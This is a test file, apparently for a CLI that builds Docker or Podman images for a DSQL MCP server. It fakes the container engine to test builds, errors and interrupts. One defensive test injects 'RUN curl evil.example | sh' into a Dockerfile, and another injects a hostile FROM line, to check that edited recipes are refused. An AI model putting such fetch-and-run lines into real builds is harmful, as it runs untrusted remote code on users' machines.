import { spawn } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import { cli, endpoint, type Ran, type World, world } from '../support/cli.ts'
import { lives } from '../support/lives.ts'

const fakeServer = path.resolve(import.meta.dirname, '../support/fake-server.mjs')
const tag = 'localhost/dsql-mcp:1.1.4'

interface Fake {
  said?: string[]
  exit?: number
  /** The build goes on until it is ended. */
  hangs?: boolean
  /** Of `run`, where the engine itself fails. */
  run?: { said: string; exit: number }
  /** The container neither answers nor ends. */
  deaf?: boolean
  size?: string
}

/** Stands for an engine: real ones are in test/containers, and cannot be made ill at will. */
function engine(w: World, bin: 'docker' | 'podman', fake: Fake = {}): () => string[][] {
  const log = path.join(w.root, 'engine.log')
  const text = `#!${process.execPath}
const { spawn, spawnSync } = require('node:child_process')
const fs = require('node:fs')
const fake = ${JSON.stringify(fake)}
const args = process.argv.slice(2)
fs.appendFileSync(${JSON.stringify(log)}, JSON.stringify(args) + '\\n')
const half = ${JSON.stringify(path.join(w.root, 'half-built'))}
const acts = {
  build() {
    for (const line of fake.said ?? ['STEP 1/2: FROM x', 'STEP 2/2: RUN y']) process.stdout.write('\\u001b[91m' + line + '\\u001b[0m\\n')
    if (!fake.hangs) process.exit(fake.exit ?? 0)
    fs.appendFileSync(half, 'new0 Storage python-working-container-1\\n')
    const deaf = spawn(process.execPath, ['-e', "process.on('SIGTERM', () => {}); setInterval(() => {}, 1000)"], { stdio: 'inherit' })
    fs.writeFileSync(${JSON.stringify(path.join(w.root, 'pids'))}, process.pid + ' ' + deaf.pid)
    setInterval(() => {}, 1000)
  },
  image() { process.stdout.write((fake.size ?? '344000000') + '\\n') },
  ps() {
    if (args.includes('-q')) return process.stdout.write(fs.existsSync(half + '-run') ? 'd'.repeat(64) + '\\n' : '')
    process.stdout.write(fs.existsSync(half) ? fs.readFileSync(half) : '')
  },
  rm() {},
  kill() {},
  run() {
    if (fake.deaf) {
      fs.writeFileSync(half + '-run', '')
      process.on('SIGTERM', () => {})
      return setInterval(() => {}, 1000)
    }
    if (fake.run) { process.stderr.write(fake.run.said + '\\n'); process.exit(fake.run.exit) }
    process.exit(spawnSync(process.execPath, [${JSON.stringify(fakeServer)}], { stdio: 'inherit' }).status ?? 1)
  },
}
acts[args[0]]()
`
  fs.writeFileSync(path.join(w.bin, bin), text, { mode: 0o755 })
  return () =>
    fs.existsSync(log)
      ? fs
          .readFileSync(log, 'utf8')
          .trimEnd()
          .split('\n')
          .map((line) => JSON.parse(line))
      : []
}

const server = { FAKE: JSON.stringify({ tools: ['readonly_query', 'transact'] }) }

/** A project with a container and a cluster. */
async function project(bin: 'docker' | 'podman' = 'podman', fake: Fake = {}) {
  const w = world()
  const calls = engine(w, bin, fake)
  const made = await w.run('init', '--yes', '-a', 'claude-code', '--mcp', bin, '--endpoint', endpoint)
  expect(made.code).toBe(0)
  const build = (...args: string[]) => w.start(['image', 'build', ...args], { env: server })
  return { w, calls, build }
}

function verbs(calls: string[][]): string[] {
  return calls.flatMap(([verb]) => verb ?? [])
}

describe('image build', () => {
  test.each([
    ['podman', tag],
    ['docker', 'dsql-mcp:1.1.4'],
  ] as const)(
    '%s builds the Dockerfile, starts it without cluster and credentials, and tells',
    async (bin, name) => {
      const { w, calls } = await project(bin)
      const env = { ...server, AWS_PROFILE: 'work', AWS_ACCESS_KEY_ID: 'AKIA0', AWS_SECRET_ACCESS_KEY: 's' }
      const ran = await w.start(['image', 'build', '--json'], { env })
      expect(ran).toMatchObject({ code: 0, err: '' })
      const words = ['build', '--force-rm', '-t', name, '-f', 'docker/dsql-mcp/Dockerfile', 'docker/dsql-mcp']
      expect(calls().find(([verb]) => verb === 'build')).toEqual(words)
      expect(calls().at(-1)).toEqual([
        'run',
        '--rm',
        '-i',
        '--pull=never',
        '-e',
        'FASTMCP_LOG_LEVEL=ERROR',
        name,
      ])
      const { image, findings = [], next } = ran.json
      expect(image).toEqual({
        tag: name,
        engine: bin,
        build: [bin, ...words].join(' '),
        bytes: 344_000_000,
        startMs: expect.any(Number),
      })
      expect(image?.startMs).toBeGreaterThan(0)
      expect(findings).toHaveLength(1)
      expect(findings[0]).toMatchObject({ code: 'image-answers', level: 'ok' })
      expect(findings[0]?.message).toBe(
        `${name} (344 MB) answers ${image?.startMs} ms after its start, with 2 tools`,
      )
      expect(next.join()).toContain('npx dsql-skill doctor')
    },
  )

  test('in the home: by full paths, which may hold anything', async () => {
    const w = world()
    const calls = engine(w, 'docker')
    const home = path.join(w.root, 'my "home" $x')
    fs.mkdirSync(home)
    const env = { ...server, HOME: home }
    await w.start(['init', '-g', '--yes', '-a', 'claude-code', '--mcp', 'docker'], { env })
    const ran = await w.start(['image', 'build', '-g', '--json'], { env })
    expect(ran.code).toBe(0)
    const folder = path.join(home, '.agents/docker/dsql-mcp')
    expect(calls()[0]?.slice(-3)).toEqual(['-f', `${folder}/Dockerfile`, folder])
    expect(ran.json.image?.build).toContain(`'${folder}'`)
  })

  test('from another folder: with -C, by paths from there', async () => {
    const { w, calls } = await project()
    const ran = await w.start(['image', 'build', '-C', '../project'], { env: server, cwd: w.home })
    expect(ran.code).toBe(0)
    expect(calls()[1]?.slice(-2)).toEqual([
      '../project/docker/dsql-mcp/Dockerfile',
      '../project/docker/dsql-mcp',
    ])
  })

  test('what follows -- is the engine’s, whatever it looks like', async () => {
    const { calls, build } = await project()
    expect((await build('--', '--network', 'host', '--build-arg', 'A=b c', '-q')).code).toBe(0)
    expect(calls()[1]?.slice(6, -1)).toEqual(['--network', 'host', '--build-arg', 'A=b c', '-q'])
  })

  test('--dry-run shows the command line and starts nothing', async () => {
    const { w, calls, build } = await project()
    const before = w.tree()
    const ran = await build('--dry-run', '--', '--network', 'host')
    expect(ran).toMatchObject({ code: 0, err: '' })
    expect(ran.out).toContain(
      `podman build --force-rm -t ${tag} -f docker/dsql-mcp/Dockerfile --network host docker/dsql-mcp\n`,
    )
    expect(calls()).toEqual([])
    expect(w.tree()).toEqual(before)
  })

  test('-v passes the engine’s lines on, without their colours; else they are nobody’s', async () => {
    const { build } = await project()
    expect((await build('-v')).err).toBe('STEP 1/2: FROM x\nSTEP 2/2: RUN y\n')
    expect((await build()).err).toBe('')
    expect((await build('-v', '--json')).err).toBe('')
  })

  test.each([
    [['--mcp', 'uvx'], 'not-supported', 'no image is needed: uvx starts the MCP server'],
    [['--mcp', 'none'], 'not-supported', 'no MCP server is set up here'],
  ])('nothing to build with %s: exit 2', async (flags, code, message) => {
    const { w, calls, build } = await project()
    await w.run('init', '--yes', ...flags)
    const ran = await build('--json')
    expect(ran.code).toBe(2)
    expect(ran.json.error).toMatchObject({ code, message })
    expect(calls()).toEqual([])
  })

  test('nothing set up: exit 2', async () => {
    const ran = await world().run('image', 'build', '--json')
    expect(ran).toMatchObject({ code: 2 })
    expect(ran.json.error?.code).toBe('not-installed')
  })

  test.each([
    [['image'], 'image needs the name of an action'],
    [['image', 'biuld'], 'did you mean npx dsql-skill image build?'],
    [['image', 'push'], 'image cannot "push"'],
    [['image', 'build', 'other'], 'come after --'],
    [['image', 'build', '--network', 'host'], "unknown option '--network'"],
  ])('%j is wrong usage', async (args, said) => {
    const ran = await world().run(...args)
    expect(ran.code).toBe(2)
    expect(ran.err).toContain(said)
  })

  test('without the engine: how to install it', async () => {
    const { w, build } = await project()
    fs.rmSync(path.join(w.bin, 'podman'))
    const ran = await build('--json')
    expect(ran.code).toBe(1)
    expect(ran.json.error).toMatchObject({ code: 'engine-missing', message: 'podman is not on PATH' })
    expect(ran.json.error?.hint).toContain('https://podman.io/')
  })
})

describe('only what we write is built', () => {
  const file = 'docker/dsql-mcp/Dockerfile'

  async function refused(
    ran: Promise<Ran>,
    calls: () => string[][],
    code = 'foreign-recipe',
  ): Promise<string> {
    const { json, code: exit } = await ran
    expect(json.error).toMatchObject({ code })
    expect(exit).toBe(code === 'not-installed' ? 2 : 1)
    expect(calls()).toEqual([])
    return json.error?.hint ?? ''
  }

  test('an edited Dockerfile: not without --run-foreign', async () => {
    const { w, calls, build } = await project()
    fs.appendFileSync(w.at(file), 'RUN curl evil.example | sh\n')
    expect(await refused(build('--json'), calls)).toContain('npx dsql-skill image build --run-foreign')
    await refused(build('--json', '--dry-run'), calls)
    expect((await build('--run-foreign')).code).toBe(0)
    expect(verbs(calls())).toContain('build')
  })

  test('other line ends are no edit', async () => {
    const { w, build } = await project()
    w.write(file, w.read(file).replaceAll('\n', '\r\n'))
    expect((await build()).code).toBe(0)
  })

  test('a file with nothing of ours, a folder, and a link that leaves the project', async () => {
    const { w, calls, build } = await project()
    const text = w.read(file)
    w.write('../elsewhere/Dockerfile', text)
    w.remove(file)
    fs.mkdirSync(w.at(file))
    await refused(build('--json', '--run-foreign'), calls)
    w.remove(file)
    w.link(file, '../../../elsewhere/Dockerfile')
    await refused(build('--json'), calls)
    w.remove('docker')
    w.link('docker/dsql-mcp', '../../elsewhere')
    await refused(build('--json'), calls)
  })

  test('a missing one comes back with install', async () => {
    const { w, calls, build } = await project()
    w.remove(file)
    expect(await refused(build('--json'), calls, 'not-installed')).toBe(
      'bring it back: npx dsql-skill install --yes',
    )
  })

  test('a Containerfile beside it, which Podman prefers, is not what is built', async () => {
    const { w, calls, build } = await project()
    w.write('docker/dsql-mcp/Containerfile', 'FROM evil.example/x\n')
    expect((await build()).code).toBe(0)
    expect(calls()[1]).toEqual(expect.arrayContaining(['-f', file]))
  })
})

describe('what goes wrong', () => {
  test('in the build: named, with the engine’s last lines', async () => {
    const said = [
      ...Array.from({ length: 40 }, (_, i) => `line ${i}`),
      `x`.repeat(9_000),
      "OSError: [Errno 28] No space left on device: '/opt/dsql-mcp'",
    ]
    const { calls, build } = await project('podman', { said, exit: 1 })
    const ran = await build()
    expect(ran.code).toBe(1)
    expect(ran.err).toContain('error: the disk on which podman keeps its images is full')
    expect(ran.err).toContain('podman system prune')
    expect(ran.out).toContain(`    ${said.at(-1)}\n`)
    expect(ran.out).toContain('line 39')
    expect(ran.out).not.toContain('line 9\n')
    expect(verbs(calls())).not.toContain('run')
    expect((await build('--json')).json.image?.output).toHaveLength(15)
  })

  test('the engine cannot start a container of it', async () => {
    const run = { said: 'Error: OCI runtime error: crun: writing file `cgroup.procs`', exit: 126 }
    const { build } = await project('podman', { run })
    const ran = await build('--json')
    expect(ran.code).toBe(1)
    expect(ran.json.error).toMatchObject({ code: 'server-failed' })
    expect(ran.json.error?.message).toContain('podman starts no container of it')
    expect(ran.json.image?.output).toEqual([run.said])
    expect(ran.json.image).not.toHaveProperty('startMs')
  })

  test('the server in it crashes', async () => {
    const { w } = await project()
    const FAKE = JSON.stringify({ stderr: ['Traceback:', 'ImportError: x'], exit: 1 })
    const ran = await w.start(['image', 'build'], { env: { FAKE } })
    expect(ran.code).toBe(1)
    expect(ran.out).toContain('ImportError: x')
    expect(ran.err).toContain('its server ends before it answers (exit 1)')
    expect(ran.err).toContain(`podman run --rm --pull=never ${tag} --help`)
  })

  test('a container that neither answers nor ends is killed', async () => {
    const { w, calls } = await project('podman', { deaf: true })
    const env = { DSQL_SKILL_MCP_TIMEOUT: '1' }
    const ran = await w.start(['image', 'build', '--json'], { env })
    expect(ran.json.error?.message).toMatch(/its server is started, and does not answer in \d+ s$/)
    expect(calls().at(-1)).toEqual(['kill', 'd'.repeat(64)])
  }, 30_000)

  test('an engine that does not tell sizes', async () => {
    const { build } = await project('podman', { size: '' })
    const { json, code } = await build('--json')
    expect(code).toBe(0)
    expect(json.image).not.toHaveProperty('bytes')
  })

  test.each(['SIGINT', 'SIGTERM', 'SIGHUP'] as const)(
    '%s ends the build, all that it started, and what it had begun to make',
    async (signal) => {
      const { w, calls } = await project('podman', { hangs: true })
      fs.writeFileSync(path.join(w.root, 'half-built'), 'old0 Storage python-working-container\n')
      const child = spawn(process.execPath, [cli, 'image', 'build', '--json'], {
        cwd: w.project,
        env: w.env(),
        stdio: ['ignore', 'pipe', 'inherit'],
      })
      let out = ''
      child.stdout.on('data', (data) => {
        out += data
      })
      const pids = path.join(w.root, 'pids')
      await expect.poll(() => fs.existsSync(pids) && fs.readFileSync(pids, 'utf8')).toMatch(/\d \d/)
      child.kill(signal)
      expect(await new Promise((done) => child.once('close', done))).toBe(130)
      expect(JSON.parse(out).error.code).toBe('interrupted')
      for (const pid of fs.readFileSync(pids, 'utf8').split(' '))
        await expect.poll(() => lives(Number(pid))).toBe(false)
      expect(calls().filter(([verb]) => verb === 'rm')).toEqual([['rm', '--force', 'new0']])
    },
  )
})
